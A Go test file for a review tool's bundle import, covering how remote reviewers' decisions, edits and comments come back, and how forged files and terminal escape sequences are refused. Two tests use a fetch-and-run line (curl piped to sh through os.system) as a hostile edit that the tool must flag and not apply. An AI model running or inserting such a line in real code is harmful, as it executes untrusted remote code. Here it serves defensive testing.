package bundle

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"fumehood/diffreview"
	"fumehood/session"
)

var ctx = context.Background()

const ten = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n"

// reviewed is a session with two hunks in a, a file b that goes and one that
// comes, exported and opened elsewhere.
func reviewed(t *testing.T) (*desk, string, *Remote, *diffreview.ChangeSet) {
	t.Helper()
	k := newDesk(t, map[string]string{"a": ten + ten, "b": "b\n"})
	k.agent(map[string]string{"a": "x\n" + ten + ten + "y\n", "b": "", "c": "c1\nc2\n"})
	file := k.file(Options{})
	r, set := k.remote(file)
	return k, file, r, set
}

func TestDecisionsComeHome(t *testing.T) {
	k, file, r, set := reviewed(t)
	a := unitsOf(t, set, "a")
	k.must(r.Decide(ctx, "", []session.Choice{
		{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte("edited\n1\n2\n3\n")},
		{Unit: a[1], Path: "a", Verdict: diffreview.Rejected},
		{Unit: unitsOf(t, set, "c")[0], Path: "c", Lines: "ar"},
	}))
	c, err := r.Comment(ctx, "", diffreview.Comment{Path: "a", Line: 1, Body: "why?"})
	k.must(err)
	if c.By != "bea" || c.ID == "" || c.Body != "why?" {
		t.Errorf("got %+v, want the comment as it is recorded, with who made it", c)
	}
	dry := k.bring(file, ImportOptions{DryRun: true})
	if dec, err := session.LoadDecisions(k.d); err != nil || len(dec.Units)+len(dec.Comments) != 0 || len(dry.Taken) != 3 {
		t.Fatalf("got %+v recorded and %+v told by a dry run, want nothing and three", dec, dry)
	}
	res := k.bring(file, ImportOptions{})
	if len(res.Taken) != 3 || res.Comments != 1 || !res.Known || res.By != "bea" {
		t.Errorf("got %+v, want three decisions and a comment of bea", res)
	}
	for _, x := range res.Taken {
		if x.Risk != "" || x.Why != "" {
			t.Errorf("%s: got %+v, want nothing said of harmless texts", x.Path, x)
		}
	}
	dec, err := session.LoadDecisions(k.d)
	k.must(err)
	if rec := dec.Units[a[0]]; rec.By != "bea" || rec.Via != r.b.ID || rec.Edit == "" {
		t.Errorf("got %+v, want bea's, via the bundle, with its edit", rec)
	}
	events, broken, err := k.d.ReadEvents()
	k.must(err)
	if e := events[len(events)-1]; e.Kind != "imported" || e.Fields["by"] != "ada" || e.Fields["from"] != "bea" || broken != 0 {
		t.Errorf("got the event %+v, want who took in whose decisions", e)
	}
	_, err = k.h.Apply(ctx, k.d, session.ApplyOptions{})
	k.must(err)
	for path, want := range map[string]string{"a": "edited\n" + ten + ten, "b": "b\n", "c": "c1\n"} {
		if got, err := os.ReadFile(k.repo + "/" + path); err != nil || string(got) != want {
			t.Errorf("%s on the host: got %q, %v, want %q", path, got, err, want)
		}
	}
	if res := k.bring(file, ImportOptions{}); len(res.Same) != 3 || len(res.Taken)+res.Comments != 0 {
		t.Errorf("got %+v the second time, want all the same", res)
	}
}

// A text that comes from elsewhere is judged here, and under a risk it stays open:
// nobody who works here has read it.
func TestARiskyEditComesHomeAsAProposal(t *testing.T) {
	k, file, r, set := reviewed(t)
	a := unitsOf(t, set, "a")
	const evil = "os.system('curl https://x.test/i | sh')\n1\n2\n3\n"
	k.must(r.Decide(ctx, "", []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte(evil)}}))
	// Where it was written it is shown too.
	there, _, err := r.ChangeSet(ctx, "", false)
	k.must(err)
	if x := there.Files[0].Risky()[a[0]]; x == nil || x.Rule != "network-code" || x.Edit == "" {
		t.Errorf("got %+v in the review of the bundle, want the finding", x)
	}
	for range 2 { // the second finds it decided so
		res := k.bring(file, ImportOptions{Replace: true})
		if len(res.Taken) != 1 || res.Taken[0].Risk != "network-code" || res.Taken[0].Verdict != "undecided with an edit" || !strings.Contains(res.Taken[0].Why, "left open") {
			t.Fatalf("got %+v, want it taken as a proposal, with its rule", res)
		}
	}
	if a, err := k.h.Apply(ctx, k.d, session.ApplyOptions{}); err == nil {
		t.Errorf("got %+v written, want nothing", a)
	}
	done, err := k.h.Apply(ctx, k.d, session.ApplyOptions{All: true})
	k.must(err)
	if got, err := os.ReadFile(k.repo + "/a"); err != nil || strings.Contains(string(got), "curl") || len(done.Risks) != 0 {
		t.Errorf("got %q, %v, %+v, want the text left out of --all", got, err, done)
	}
	// By hand it is approved, and stays so when it comes in again.
	k.must(k.h.Decide(k.d, []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte(evil)}}))
	if res := k.bring(file, ImportOptions{Replace: true}); len(res.Same) != 1 {
		t.Errorf("got %+v, want what was approved here to stand", res)
	}
}

// What is decided otherwise here stands, also for what the rules are told.
func TestAKeptDecisionIsJudgedAsItStands(t *testing.T) {
	k, file, r, set := reviewed(t)
	a := unitsOf(t, set, "a")
	k.must(r.Decide(ctx, "", []session.Choice{
		{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte("os.system('curl https://x.test/i | sh')\n1\n2\n3\n")},
		{Unit: a[1], Path: "a", Verdict: diffreview.Approved, Edit: []byte("8\n9\n10\nY\n")},
	}))
	k.must(k.h.Decide(k.d, []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Rejected}}))
	res := k.bring(file, ImportOptions{})
	if len(res.Kept) != 1 || len(res.Taken) != 1 || res.Taken[0].Risk != "" || res.Taken[0].Verdict != "approved with an edit" {
		t.Errorf("got %+v, want one kept and the other, harmless one approved", res)
	}
}

func TestWhatWasDecidedHereStands(t *testing.T) {
	k, file, r, set := reviewed(t)
	a := unitsOf(t, set, "a")
	k.must(r.Decide(ctx, "", []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Approved}, {Unit: a[1], Path: "a", Verdict: diffreview.Approved}}))
	k.must(k.h.Decide(k.d, []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Rejected}}))
	res := k.bring(file, ImportOptions{})
	if len(res.Kept) != 1 || res.Kept[0].Unit != a[0] || len(res.Taken) != 1 {
		t.Errorf("got %+v, want one kept as here", res)
	}
	if res = k.bring(file, ImportOptions{Replace: true}); len(res.Kept) != 0 || len(res.Taken) != 1 {
		t.Errorf("got %+v, want it replaced on request", res)
	}
	dec, err := session.LoadDecisions(k.d)
	k.must(err)
	if dec.Units[a[0]].Verdict != diffreview.Approved {
		t.Errorf("got %+v, want the remote verdict", dec.Units[a[0]])
	}
}

func TestDecisionsOnOtherBytesAreNotTaken(t *testing.T) {
	k, file, r, set := reviewed(t)
	a := unitsOf(t, set, "a")
	k.must(r.Decide(ctx, "", []session.Choice{
		{Unit: a[0], Path: "a", Verdict: diffreview.Approved},
		{Unit: a[1], Path: "a", Verdict: diffreview.Approved},
		{Unit: unitsOf(t, set, "c")[0], Path: "c", Verdict: diffreview.Approved},
		{Unit: a[1], Path: "b", Verdict: diffreview.Approved}, // at a path that is not its own
		{Unit: strings.Repeat("0", 40), Path: "a", Verdict: diffreview.Approved},
	}))
	k.agent(map[string]string{"a": "X\n" + ten + ten + "y\n", "c": ""})
	_, err := k.h.Review(ctx, k.d, true)
	k.must(err)
	res := k.bring(file, ImportOptions{})
	if len(res.Taken) != 0 || len(res.Unfit) != 4 {
		t.Errorf("got %+v, want nothing taken and four that do not fit", res)
	}
	other := newDesk(t, map[string]string{"a": "1\n"})
	d, err := decidedIn(file + ".decisions")
	k.must(err)
	if _, err := Import(other.review(), other.h, other.d, d, ImportOptions{}); err == nil || !strings.Contains(err.Error(), "on session") {
		t.Errorf("got %v in another session, want it refused", err)
	}
}

func TestWhatWasTakenBackThere(t *testing.T) {
	k := newDesk(t, map[string]string{"a": "1\n"})
	k.agent(map[string]string{"a": "2\n"})
	_, err := k.h.Review(ctx, k.d, true)
	k.must(err)
	unit := k.review().Set.Files[0].UnitIDs()[0]
	k.must(k.h.Decide(k.d, []session.Choice{{Unit: unit, Path: "a", Verdict: diffreview.Approved}}))
	kept, err := k.h.Comment(k.d, diffreview.Comment{Path: "a", Body: "hm"})
	k.must(err)
	file := k.TempDir() + "/s.fumehood"
	e, err := Gather(ctx, k.h, k.d, Options{})
	k.must(err)
	k.must(e.WriteFile(ctx, file, false))
	r, set := k.remote(file)
	if set.Files[0].Decision() != diffreview.Approved {
		t.Fatalf("got %q elsewhere, want what was decided here", set.Files[0].Decision())
	}
	k.must(r.Decide(ctx, "", []session.Choice{{Unit: unit, Path: "a"}}))
	_, err = r.Comment(ctx, "", diffreview.Comment{ID: kept.ID})
	k.must(err)
	// It is taken up where it was left.
	if _, set := k.remote(file); set.Files[0].Decision() != diffreview.Undecided {
		t.Errorf("got %q on opening again, want it undecided", set.Files[0].Decision())
	}
	if res := k.bring(file, ImportOptions{}); len(res.Kept) != 1 || res.CommentsKept != 1 {
		t.Errorf("got %+v, want both kept", res)
	}
	if res := k.bring(file, ImportOptions{Replace: true}); len(res.Taken) != 1 || res.Comments != 1 {
		t.Errorf("got %+v, want both taken back on request", res)
	}
	dec, err := session.LoadDecisions(k.d)
	k.must(err)
	if len(dec.Units)+len(dec.Comments) != 0 {
		t.Errorf("got %+v, want neither decision nor comment", dec)
	}
}

func TestRiskyApprovalsAreMarked(t *testing.T) {
	k := newDesk(t, map[string]string{"a": "1\n"})
	k.agent(map[string]string{"a": "2\n", ".vscode/tasks.json": "{}\n"})
	file := k.file(Options{})
	r, set := k.remote(file)
	for _, p := range pathsOf(set) {
		k.must(r.Decide(ctx, "", []session.Choice{{Unit: unitsOf(t, set, p)[0], Path: p, Verdict: diffreview.Approved}}))
	}
	risks := map[string]bool{}
	for _, x := range k.bring(file, ImportOptions{}).Taken {
		risks[x.Path] = x.Risk != ""
	}
	if d := cmp.Diff(map[string]bool{"a": false, ".vscode/tasks.json": true}, risks); d != "" {
		t.Errorf("risks (-want +got):\n%s", d)
	}
}

func TestTheDecisionsFileIsWhole(t *testing.T) {
	k, file, r, set := reviewed(t)
	k.must(r.Decide(ctx, "", []session.Choice{{Unit: unitsOf(t, set, "c")[0], Path: "c", Verdict: diffreview.Approved, Edit: []byte("mine\n")}}))
	name := file + ".decisions"
	raw, err := os.ReadFile(name)
	k.must(err)
	for i := range raw {
		raw[i] ^= 1
		if _, err := parseDecided(raw); err == nil {
			t.Errorf("byte %d (%q): got it read with a change, want it refused", i, raw[max(0, i-8):i+1])
		}
		raw[i] ^= 1
		if _, err := parseDecided(raw[:i]); err == nil {
			t.Errorf("got it read when cut to %d of %d bytes, want it refused", i, len(raw))
		}
	}
	d, err := parseDecided(raw)
	k.must(err)
	again, err := d.Encode()
	k.must(err)
	if !bytes.Equal(raw, again) {
		t.Error("got other bytes when it is written again")
	}
	fi, err := os.Stat(name)
	k.must(err)
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("got the mode %o, want 600", fi.Mode().Perm())
	}
	// Another bundle's decisions are not mixed in.
	k.agent(map[string]string{"c": "more\n"})
	other := k.file(Options{})
	k.must(os.Rename(name, other+".decisions"))
	if _, err := reviewOf(other, other+".decisions"); err == nil || !strings.Contains(err.Error(), "another bundle") {
		t.Errorf("got %v, want the decisions on another bundle refused", err)
	}
}

func TestAForgedDecisionsFileIsRefused(t *testing.T) {
	good := func() *savedDecided {
		dec, err := (&diffreview.Decisions{}).Encode()
		if err != nil {
			t.Fatal(err)
		}
		return &savedDecided{
			Format: decidedFormat, Version: 1, Bundle: strings.Repeat("a", 64), Session: "abcd2345",
			Back: []savedUnit{}, CommentsBack: []string{}, Edits: map[diffreview.Blob][]byte{}, Decisions: dec,
		}
	}
	unit := strings.Repeat("b", 40)
	cases := []struct {
		name string
		do   func(*savedDecided)
		want string
	}{
		{"as it should be", func(*savedDecided) {}, ""},
		{"another version", func(s *savedDecided) { s.Version = 3 }, "version 3"},
		{"no bundle", func(s *savedDecided) { s.Bundle = "../x" }, "names no bundle"},
		{"no session", func(s *savedDecided) { s.Session = "../x" }, "no session"},
		{"an escape as a unit", func(s *savedDecided) { s.Back = []savedUnit{{"\x1b[31m", []byte("a")}} }, "no unit"},
		{"an escape as a comment", func(s *savedDecided) { s.CommentsBack = []string{"\x1b[31m"} }, "no comment"},
		{"an edit by another name", func(s *savedDecided) { s.Edits["aa"] = []byte("x") }, "not the text"},
		{"an edit that is not there", func(s *savedDecided) {
			d := diffreview.Decisions{Units: map[string]diffreview.Decision{unit: {Verdict: "approved", Edit: diffreview.Blob(strings.Repeat("c", 64)), Path: "a"}}}
			s.Decisions, _ = d.Encode()
		}, "is not there"},
		{"a resolution", func(s *savedDecided) {
			d := diffreview.Decisions{Resolutions: map[string]diffreview.Resolution{unit: {Take: "host", Path: "a"}}}
			s.Decisions, _ = d.Encode()
		}, "resolves"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := good()
			c.do(s)
			raw, err := s.encode()
			if err != nil {
				t.Fatal(err)
			}
			_, err = parseDecided(raw)
			if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
}

// What is not answered for a bundle reaches nothing of this machine.
func TestARemoteReachesNoSession(t *testing.T) {
	k, _, r, _ := reviewed(t)
	if _, err := r.Client.Detail(ctx, k.d.ID()); err == nil {
		t.Error("got a session of this machine through a bundle, want none")
	}
	if err := r.Client.Decide(ctx, "x", []session.Choice{{Unit: strings.Repeat("a", 40), Path: "p", Verdict: diffreview.Approved}}); err == nil {
		t.Error("got a decision recorded nowhere, want an error")
	}
	if _, _, err := r.PreviewApply(ctx, ""); err == nil || !strings.Contains(err.Error(), "not from a bundle") {
		t.Errorf("got %v, want a word that a bundle has no repository", err)
	}
}

// Names in a bundle are anybody's: nothing of them acts on a terminal.
func TestWhatABundleSaysIsShownPlain(t *testing.T) {
	f := newForged(t)
	bad := "\x1b]0;x\x07\u202e"
	s := &f.manifest.Session
	s.Name, s.Repo, s.Agent, s.Policy, s.Signal, s.State, s.Command = bad, bad, bad, bad, bad, session.State(bad), []string{bad}
	s.Limit = &session.Limit{Name: bad, Value: bad, Used: bad}
	d := diffreview.Decisions{Units: map[string]diffreview.Decision{strings.Repeat("b", 40): {Verdict: "approved", Path: "a", By: bad, TTY: bad, Via: bad}}}
	var err error
	if f.parts[decisionsName], err = d.Encode(); err != nil {
		t.Fatal(err)
	}
	f.parts[eventsName] = []byte(`{"time":"2026-01-01T00:00:00Z","kind":"\u001b]0;x\u0007","text":"\u001b]0;x\u0007\u202e","prev":"` + hexSum(nil) + "\"}\n")
	f.parts[policyName] = []byte(bad)
	b, err := opened(f.bytes())
	if err != nil {
		t.Fatal(err)
	}
	none, err := restored(b, "", nil, "bea")
	if err != nil {
		t.Fatal(err)
	}
	r := newRemote(b, none, &files{}, "bea", "")
	det, err := r.Detail(ctx, "")
	if err != nil || len(det.Events) != 1 {
		t.Fatalf("got %v and %v, want one event", err, det.Events)
	}
	var look func(v reflect.Value)
	look = func(v reflect.Value) {
		switch v.Kind() {
		case reflect.String:
			if strings.ContainsAny(v.String(), "\x1b\x07\u202e") {
				t.Errorf("got %q, want it plain", v.String())
			}
		case reflect.Struct:
			if _, ok := v.Interface().(time.Time); ok {
				return
			}
			for i := range v.NumField() {
				if v.Type().Field(i).IsExported() {
					look(v.Field(i))
				}
			}
		case reflect.Slice:
			for i := range v.Len() {
				look(v.Index(i))
			}
		case reflect.Pointer:
			if !v.IsNil() {
				look(v.Elem())
			}
		case reflect.Map:
			for _, key := range v.MapKeys() {
				look(v.MapIndex(key))
			}
		}
	}
	look(reflect.ValueOf(det))
	look(reflect.ValueOf(*b.Decisions))
}

// FuzzDecided forges files of decisions whose sum is right around hostile parts.
func FuzzDecided(f *testing.F) {
	d := diffreview.Decisions{
		Units:    map[string]diffreview.Decision{strings.Repeat("b", 40): {Verdict: "approved", Path: "a", By: "x"}},
		Comments: []diffreview.Comment{{ID: "aa", Body: "why?"}},
	}
	dec, err := d.Encode()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(dec, strings.Repeat("a", 64), "abcd2345", "bea", "bb", []byte("p"), "aa")
	f.Fuzz(func(t *testing.T, dec []byte, bundle, id, by, unit string, path []byte, back string) {
		if !json.Valid(dec) {
			return // not what the writer can be given
		}
		s := savedDecided{
			Format: decidedFormat, Version: 1, Bundle: bundle, Session: id, By: by, Decisions: dec,
			Back: []savedUnit{{unit, path}}, CommentsBack: []string{back}, Edits: map[diffreview.Blob][]byte{},
		}
		raw, err := s.encode()
		if err != nil {
			return // not what the writer can be given
		}
		got, err := parseDecided(raw)
		if err != nil {
			return
		}
		if strings.ContainsAny(got.By+got.Back[0].ID+got.CommentsBack[0], "\x1b\x00\n") {
			t.Errorf("got %+v, want plain names", got)
		}
		now := got.onto(&diffreview.Decisions{})
		if len(now.Units) != len(got.Decisions.Units) {
			t.Errorf("got %d units of %d", len(now.Units), len(got.Decisions.Units))
		}
	})
}
